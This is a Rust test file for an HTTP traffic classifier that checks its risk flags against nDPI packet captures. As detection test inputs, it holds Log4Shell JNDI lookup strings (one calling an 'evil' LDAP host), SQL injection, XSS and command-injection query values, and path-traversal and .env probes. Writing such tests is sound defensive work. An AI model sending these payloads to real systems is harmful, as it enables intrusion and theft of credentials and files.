//! HTTP classifier tests: nDPI's captures (verdict, metadata, risks), heads
//! split over segments, every prefix of real messages, other protocols.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests")]

use sonde_proto::v1;

use super::super::testing::{OwnedPacket, every_prefix, flows, l7_name, payloads};
use super::super::{Findings, Kind as Classifier, Parse, Probe, Risk};
use super::*;

fn risk_names(flow: &v1::Flow) -> Vec<&str> {
    flow.risks.iter().map(|r| r.name.as_str()).collect()
}

fn http_of(flow: &v1::Flow) -> &v1::HttpInfo {
    flow.l7
        .as_ref()
        .and_then(|l| l.http.as_ref())
        .expect("http metadata")
}

fn extra<'a>(flow: &'a v1::Flow, key: &str) -> Option<&'a str> {
    flow.l7.as_ref()?.extra.get(key).map(String::as_str)
}

/// Feeds packets (payload, from client) through a fresh parser.
fn run(packets: &[(&[u8], bool)]) -> (Parse, Findings) {
    let mut parser = Parser::default();
    crate::classify::testing::feed_tcp(80, packets, |p, out| parser.parse(p, out))
}

#[test]
fn http_pcapng_gives_ndpi_metadata() {
    let flows = flows("http.pcapng");
    let f = flows
        .iter()
        .find(|f| l7_name(f).starts_with("HTTP"))
        .expect("an HTTP flow");
    assert_eq!(f.l7.as_ref().unwrap().protocol, "HTTP");
    let http = http_of(f);
    assert_eq!(http.method, "GET");
    assert_eq!(http.host, "google.com");
    assert_eq!(format!("{}{}", http.host, http.url), "google.com/");
    assert_eq!(http.user_agent, "curl/7.68.0");
    assert_eq!(http.status, 301);
    assert!(http.content_type.starts_with("text/html"));
    assert_eq!(http.version, "1.1");
    assert_eq!(extra(f, "http.server"), Some("gws"));
    assert!(risk_names(f).is_empty(), "{:?}", risk_names(f));
}

#[test]
fn sql_injection_attempts_are_flagged_as_ndpi_does() {
    let flows = flows("WebattackSQLinj.pcap");
    let http: Vec<_> = flows.iter().filter(|f| l7_name(f) == "HTTP").collect();
    assert_eq!(http.len(), 9);
    let mut injected = 0;
    for f in http {
        let info = http_of(f);
        assert_eq!(info.host, "205.174.165.68");
        assert_eq!(info.status, 200);
        assert!(
            info.user_agent
                .starts_with("Mozilla/5.0 (X11; Linux x86_64; rv:45.0)")
        );
        assert_eq!(extra(f, "http.server"), Some("Apache/2.4.18 (Ubuntu)"));
        let risks = risk_names(f);
        assert!(
            risks.contains(&"HTTP/TLS/QUIC Numeric Hostname/SNI"),
            "{risks:?}"
        );
        // nDPI flags every "1' and 1=1..." but not the lone quote "1'".
        let sqli = info.url.contains("union") || info.url.contains("1%3D1");
        assert_eq!(
            risks.contains(&"SQL Injection"),
            sqli,
            "{}: {risks:?}",
            info.url
        );
        injected += usize::from(sqli);
    }
    assert_eq!(injected, 7);
}

#[test]
fn log4j_exploit_flows_raise_ndpi_risks() {
    let flows = flows("log4j-webapp-exploit.pcap");
    let downloads: Vec<_> = flows
        .iter()
        .filter(|f| {
            f.l7.as_ref()
                .and_then(|l| l.http.as_ref())
                .is_some_and(|h| h.url == "/Exploit.class")
        })
        .collect();
    assert_eq!(downloads.len(), 2);
    for f in downloads {
        assert_eq!(l7_name(f), "HTTP");
        let http = http_of(f);
        assert_eq!(http.user_agent, "Java/1.8.0_51");
        assert_eq!(http.content_type, "application/java-vm");
        assert_eq!(http.status, 200);
        assert_eq!(extra(f, "http.server"), Some("SimpleHTTP/0.6 Python/3.4.2"));
        let risks = risk_names(f);
        for r in [
            "Binary App Transfer",
            "HTTP/TLS/QUIC Numeric Hostname/SNI",
            "Possible Exploit Attempt",
        ] {
            assert!(risks.contains(&r), "{r} missing: {risks:?}");
        }
    }
    let login = flows
        .iter()
        .find(|f| {
            f.l7.as_ref()
                .and_then(|l| l.http.as_ref())
                .is_some_and(|h| h.method == "POST")
        })
        .expect("the POST flow");
    let http = http_of(login);
    assert_eq!(http.url, "/log4shell/login");
    assert_eq!(http.host, "192.168.13.31:8080");
    assert_eq!(http.user_agent, "jndi:ldap://172.16.238.11:1389/a");
    assert_eq!(
        extra(login, "http.request_content_type"),
        Some("application/x-www-form-urlencoded")
    );
    let risks = risk_names(login);
    // nDPI also says "Known Proto on Non Std Port" (its HTTP port is 80
    // only; protocol.rs lists 8080 too) and "HTTP Susp Header" (a numeric
    // Host that is not the server's address: the verdict knows addresses).
    for r in [
        "HTTP/TLS/QUIC Numeric Hostname/SNI",
        "Possible Exploit Attempt",
    ] {
        assert!(risks.contains(&r), "{r} missing: {risks:?}");
    }
    assert!(!risks.contains(&"HTTP Susp User-Agent"), "{risks:?}");
}

#[test]
fn http_inside_6in4_is_read() {
    let flows = flows("6in4tunnel.pcap");
    let f = flows
        .iter()
        .find(|f| f.l7.as_ref().and_then(|l| l.http.as_ref()).is_some())
        .expect("the HTTP flow");
    assert_eq!(l7_name(f), "HTTP");
    let http = http_of(f);
    assert_eq!(http.host, "mail.tomasu.net");
    assert_eq!(http.url, "/");
    assert_eq!(http.status, 301);
    assert_eq!(http.user_agent, "Wget/1.16.3 (linux-gnu)");
    assert!(http.content_type.starts_with("text/html"));
    assert_eq!(extra(f, "http.server"), Some("Apache/2.4.10 (Debian)"));
    assert!(risk_names(f).is_empty(), "{:?}", risk_names(f));
}

#[test]
fn scans_without_payload_are_not_http_by_dpi() {
    for f in flows("tcp_scan.pcapng") {
        assert!(f.l7.as_ref().and_then(|l| l.http.as_ref()).is_none());
    }
}

#[test]
fn headers_split_over_segments_are_reassembled() {
    let req: &[u8] = b"GET /a?b=c HTTP/1.1\r\nHost: www.example.com:8080\r\nUser-Agent: curl/8.0\r\nAccept: */*\r\n\r\n";
    let resp: &[u8] = b"HTTP/1.1 404 Not Found\r\nServer: nginx/1.18.0\r\nContent-Type: text/plain\r\nContent-Length: 5\r\n\r\nnope!";
    for cut in 1..req.len() {
        let (a, b) = req.split_at(cut);
        let (parse, out) = run(&[(a, true), (b, true), (resp, false)]);
        assert_eq!(parse, Parse::Done, "cut at {cut}");
        assert_eq!(out.host, "www.example.com");
        let http = out.l7.http.as_ref().unwrap();
        assert_eq!(http.url, "/a?b=c");
        assert_eq!(http.user_agent, "curl/8.0");
        assert_eq!(http.status, 404);
        assert!(out.risks.has(Risk::ErrorCode));
        assert!(out.risks.has(Risk::HttpObsoleteServer));
    }
    for cut in 1..resp.len() {
        let (a, b) = resp.split_at(cut);
        let (parse, out) = run(&[(req, true), (a, false), (b, false)]);
        assert_eq!(parse, Parse::Done, "cut at {cut}");
        assert_eq!(out.l7.http.as_ref().unwrap().content_type, "text/plain");
    }
}

#[test]
fn a_flow_may_start_with_the_response() {
    let (parse, out) = run(&[
        (
            b"HTTP/1.0 200 OK\r\nContent-Type: application/x-dosexec\r\n\r\nMZ\x90\x00",
            false,
        ),
        (
            b"GET /setup.exe HTTP/1.0\r\nHost: files.example\r\nUser-Agent: Wget/1.0\r\n\r\n",
            true,
        ),
    ]);
    assert_eq!(parse, Parse::Done);
    assert_eq!(out.host, "files.example");
    assert_eq!(
        out.risks.info(Risk::BinaryApplicationTransfer),
        Some("Found mime exe x-dosexec")
    );
}

#[test]
fn executables_are_found_by_their_first_bytes() {
    let (_, out) = run(&[
        (b"GET /x HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0 (X11)\r\n\r\n", true),
        (b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"x.dll\"\r\n\r\n", false),
        (b"MZ\x90\x00\x03\x00", false),
    ]);
    assert!(out.risks.has(Risk::BinaryApplicationTransfer));
    assert_eq!(
        out.risks.info(Risk::BinaryApplicationTransfer),
        Some("Found file extn dll")
    );
    let (parse, out) = run(&[
        (
            b"GET /x HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0 (X11)\r\n\r\n",
            true,
        ),
        (
            b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n",
            false,
        ),
        (b"MZ\x90\x00\x03\x00", false),
    ]);
    assert_eq!(parse, Parse::Done);
    assert_eq!(
        out.risks.info(Risk::BinaryApplicationTransfer),
        Some("Found Windows Exe")
    );
}

#[test]
fn request_risks_follow_ndpi() {
    let req = |head: &str| {
        let (_, out) = run(&[(head.as_bytes(), true)]);
        out
    };
    let out = req("GET / HTTP/1.1\r\nHost: a\r\n\r\n");
    assert_eq!(
        out.risks.info(Risk::HttpSuspiciousUserAgent),
        Some("Empty or missing User-Agent")
    );
    let out = req(
        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: x\r\nAuthorization: Basic dXNlcjpwdw==\r\n\r\n",
    );
    assert!(out.risks.has(Risk::ClearTextCredentials));
    assert!(out.risks.has(Risk::HttpSuspiciousUserAgent), "too short");
    let out = req(
        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\r\n\r\n",
    );
    assert!(out.risks.has(Risk::HttpCrawlerBot));
    assert!(!out.risks.has(Risk::HttpSuspiciousUserAgent));
    let out = req("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://evil/a}\r\n\r\n");
    assert!(out.risks.has(Risk::HttpSuspiciousUserAgent));
    assert!(out.risks.has(Risk::PossibleExploit));
    let out = req(
        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8\r\nX-Api-Version: ${jndi:ldap://evil/a}\r\n\r\n",
    );
    assert_eq!(
        out.risks.info(Risk::PossibleExploit),
        Some("Suspicious Log4J")
    );
    let out = req("POST /gate.php HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8\r\nUuid: 1234\r\n\r\n");
    assert_eq!(
        out.risks.info(Risk::HttpSuspiciousHeader),
        Some("Found Uuid: 1234")
    );
    let out = req("GET / HTTP/1.1\r\nHost: a<b>\r\nUser-Agent: curl/8\r\n\r\n");
    assert!(out.risks.has(Risk::InvalidCharacters) && out.risks.has(Risk::PossibleExploit));
    let out = req("GET /../../etc/hosts HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8\r\n\r\n");
    assert!(out.risks.has(Risk::HttpSuspiciousUrl));
}

#[test]
fn url_patterns_are_checked_on_decoded_query_values() {
    let check = |target: &str| {
        let mut out = Findings::default();
        url::check(target.as_bytes(), &mut out);
        out.risks
    };
    assert!(check("/q?s=%3Cscript%3Ealert(1)%3C/script%3E").has(Risk::UrlPossibleXss));
    assert!(check("/q?u=javascript:alert(1)").has(Risk::UrlPossibleXss));
    assert!(check("/i?x=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E").has(Risk::UrlPossibleXss));
    assert!(check("/p?id=1'+or+1=1--").has(Risk::UrlPossibleSqlInjection));
    assert!(check("/p?id=1+UNION+SELECT+password+FROM+users").has(Risk::UrlPossibleSqlInjection));
    assert!(check("/p?id=1;+cat+/etc/passwd").has(Risk::UrlPossibleRceInjection));
    assert!(check("/p?host=127.0.0.1%3Bid").has(Risk::UrlPossibleRceInjection));
    assert!(check("/p?x=$(whoami)").has(Risk::UrlPossibleRceInjection));
    assert!(check("/shell?cd+/tmp").has(Risk::UrlPossibleRceInjection));
    assert!(check("/.env").has(Risk::PossibleExploit));
    assert!(check("/x?q=%24%7Bjndi:ldap://e/a%7D").has(Risk::PossibleExploit));
    for benign in [
        "/",
        "/.well-known/acme-challenge/abc",
        "/search?q=o%27reilly+books&lang=en",
        "/p?id=1%27",
        "/watch?v=dQw4w9WgXcQ&list=PL1;2",
        "/a?b=c&d=e+f",
        "/select?union=1",
    ] {
        assert!(check(benign).is_empty(), "{benign}: {:?}", check(benign));
    }
}

#[test]
fn the_probe_claims_requests_and_responses_only() {
    let probe_of = |bytes: &[u8]| {
        let p = OwnedPacket::tcp(bytes, true, 80, 0);
        probe(&p.view(true))
    };
    assert_eq!(probe_of(b"GET / HTTP/1.1\r\n"), Probe::Match);
    assert_eq!(probe_of(b"GET /very-long-url-without-end"), Probe::Match);
    assert_eq!(probe_of(b"HTTP/1.1 200 OK\r\n"), Probe::Match);
    assert_eq!(probe_of(b"GE"), Probe::Unsure);
    assert_eq!(probe_of(b"HTTP/"), Probe::Unsure);
    assert_eq!(
        probe_of(b"OPTIONS rtsp://cam/ RTSP/1.0\r\n"),
        Probe::NoMatch
    );
    assert_eq!(probe_of(b"OPTIONS sip:a@b SIP/2.0\r\n"), Probe::NoMatch);
    assert_eq!(probe_of(b"GET / RTSP/1.0\r\n"), Probe::NoMatch);
    assert_eq!(probe_of(b"SSH-2.0-OpenSSH_8.9\r\n"), Probe::NoMatch);
    assert_eq!(probe_of(b"HTTP/2.0 200\r\n"), Probe::NoMatch);
}

#[test]
fn other_protocols_are_not_claimed() {
    crate::classify::testing::assert_not_claimed(
        probe,
        &[
            "dns.pcap",
            "443-chrome.pcap",
            "ssh.pcap",
            "smtp.pcap",
            "quic-29.pcap",
        ],
    );
}

#[test]
fn every_prefix_of_real_messages_is_safe() {
    for capture in [
        "http.pcapng",
        "log4j-webapp-exploit.pcap",
        "WebattackSQLinj.pcap",
    ] {
        for p in payloads(capture)
            .iter()
            .filter(|p| {
                p.payload.starts_with(b"GET")
                    || p.payload.starts_with(b"POST")
                    || p.payload.starts_with(b"HTTP/1.")
            })
            .take(6)
        {
            for from_client in [true, false] {
                for (len, parse) in every_prefix(Classifier::Http, p, from_client)
                    .into_iter()
                    .enumerate()
                {
                    // One message alone never completes a flow, whole or cut.
                    assert_ne!(parse, Parse::Done, "{capture} cut at {len}");
                }
            }
        }
    }
}
